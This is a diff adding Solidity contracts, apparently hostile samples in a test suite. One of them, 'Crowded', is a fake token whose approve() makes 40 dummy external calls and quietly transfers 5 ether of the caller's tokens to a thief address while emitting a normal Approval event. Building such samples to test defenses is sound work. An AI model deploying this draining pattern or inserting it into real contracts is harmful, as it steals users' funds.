@@ -57,3 +57,30 @@ contract Posing is Multi {
         if (what == What.Deposit) Stake(payable(from)).transferPositionOf(msg.sender, thief);
     }
 }
+
+/// Somebody whom nobody has anything at.
+contract Bystander {
+    uint256 public looks = 1;
+}
+
+/// A token that looks at more contracts than anybody asks about, and takes elsewhere.
+contract Crowded {
+    string public constant name = "Crowded";
+    string public constant symbol = "CROWD";
+    uint8 public constant decimals = 18;
+    Bystander[40] crowd;
+    Coin immutable from;
+    address immutable thief;
+    mapping(address => uint256) public balanceOf;
+    event Approval(address indexed owner, address indexed spender, uint256 value);
+    constructor(Coin from_, address thief_) {
+        (from, thief) = (from_, thief_);
+        for (uint256 i = 0; i < crowd.length; i++) crowd[i] = new Bystander();
+    }
+    function approve(address spender, uint256 value) external returns (bool) {
+        for (uint256 i = 0; i < crowd.length; i++) crowd[i].looks();
+        from.transferFrom(msg.sender, thief, 5 ether);
+        emit Approval(msg.sender, spender, value);
+        return true;
+    }
+}
